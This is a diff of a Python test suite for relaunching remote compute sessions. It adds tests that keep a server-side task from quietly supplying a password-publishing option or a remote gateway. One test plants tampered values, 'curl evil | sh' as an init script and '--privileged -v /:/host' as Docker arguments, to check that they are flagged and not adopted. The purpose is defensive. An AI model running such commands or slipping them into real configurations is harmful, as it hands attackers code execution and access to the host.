@@ -19,12 +19,12 @@ TOLD = LaunchSpec(
     base_task="b1", docker="python:3.12", packages="torch==2.5\ntqdm", init_script="export A=1\necho ü",
     init_script_minutes="45", user_folder="/data x", docker_args="--shm-size=8g", docker_network="port",
     store_workspace="~/work", continue_session="c1", workspace_minutes="20", username="ada", public_ip=True,
-    remote_gateway="gate:31022", ssh_port="2222:2300", router_enabled=True, force_dropbear=True,
+    ssh_port="2222:2300", router_enabled=True, force_dropbear=True,
 )  # fmt: skip
 NOT_TOLD = {
     "requirements", "upload_files", "git_credentials", "clearml_credentials", "ssh_agent_forwarding", "randomize",
     "storage_packages", "session_cleanup", "queue_include_tag", "queue_excluded_tag", "store_defaults", "password",
-    "attach_passphrase", "vscode", "cli_compatible",
+    "attach_passphrase", "vscode", "cli_compatible", "remote_gateway",
 }  # fmt: skip
 
 
@@ -57,6 +57,37 @@ def test_a_session_of_another_computer_is_launched_with_what_its_task_tells() ->
         rig.world.profiles.forget_session(session.text)
         again = rig.core.history.again(session, rig.soon())
         assert again.spec == replace(TOLD, store_defaults=False) and again.partial
+        told = {f.name: getattr(TOLD, f.name) for f in fields(TOLD) if f.name not in NOT_TOLD}
+        assert again.taken == told and not again.left
+
+
+def test_what_publishes_a_password_or_leads_elsewhere_is_never_taken_from_a_task() -> None:
+    with CoreRig(start=False) as rig:
+        session = ended(rig, replace(SPEC, cli_compatible=True, remote_gateway="gate:31022"))
+        again = rig.core.history.again(session, rig.soon())
+        assert again.spec.cli_compatible and again.spec.remote_gateway == "gate:31022" and not again.left
+        rig.world.profiles.forget_session(session.text)
+        again = rig.core.history.again(session, rig.soon())
+        assert not again.spec.cli_compatible and not again.spec.remote_gateway
+        assert again.left == ("cli_compatible", "remote_gateway") and again.asks == ()  # its password was made for it
+
+
+def test_what_this_computer_kept_counts_and_what_the_task_says_instead_is_named() -> None:
+    kept = replace(SPEC, docker="python:3.12", docker_args="--shm-size=8g", git_credentials=True)
+    with CoreRig(start=False) as rig:
+        rig.server.set_queue("evil", ["theirs"])
+        session = ended(rig, kept)
+        assert rig.core.history.again(session, rig.soon()).differs == ()
+        rig.server.change(session.task, queue="evil", name="renamed")
+        task = rig.server.tasks[session.task]
+        task.parameters |= {"init_script": "curl evil | sh", "remote_gateway": "evil:22"}
+        task.draft = replace(task.draft, docker="evil:1", docker_args="--privileged -v /:/host")
+        again = rig.core.history.again(session, rig.soon())
+        assert again.spec == replace(kept, store_defaults=False) and not again.partial and again.taken == {}
+        assert dict(again.differs) == {
+            "queue": "evil", "name": "renamed", "docker": "evil:1", "docker_args": "--privileged -v /:/host",
+            "init_script": "curl evil | sh", "remote_gateway": "evil:22",
+        }  # fmt: skip
 
 
 def test_secrets_are_asked_for_and_never_found() -> None:
@@ -69,13 +100,14 @@ def test_secrets_are_asked_for_and_never_found() -> None:
             rig.world.profiles.forget_session(session.text)
 
 
-def test_the_queue_and_the_name_are_those_that_it_had_last() -> None:
+def test_the_queue_is_the_one_that_a_person_moved_it_to_here() -> None:
     with CoreRig(start=False) as rig:
         rig.server.set_queue("gpu", ["a"])
-        session = ended(rig)
-        rig.server.change(session.task, queue="gpu", name="renamed")
-        spec = rig.core.history.again(session, rig.soon()).spec
-        assert (spec.queue, spec.name) == ("gpu", "renamed")
+        session = rig.launch()
+        rig.core.move_to_queue(session, "gpu", rig.soon())
+        rig.server.end(session.task)
+        again = rig.core.history.again(session, rig.soon())
+        assert again.spec.queue == "gpu" and again.differs == ()
 
 
 def test_beside_a_living_session_of_the_same_name_it_gets_a_number() -> None:
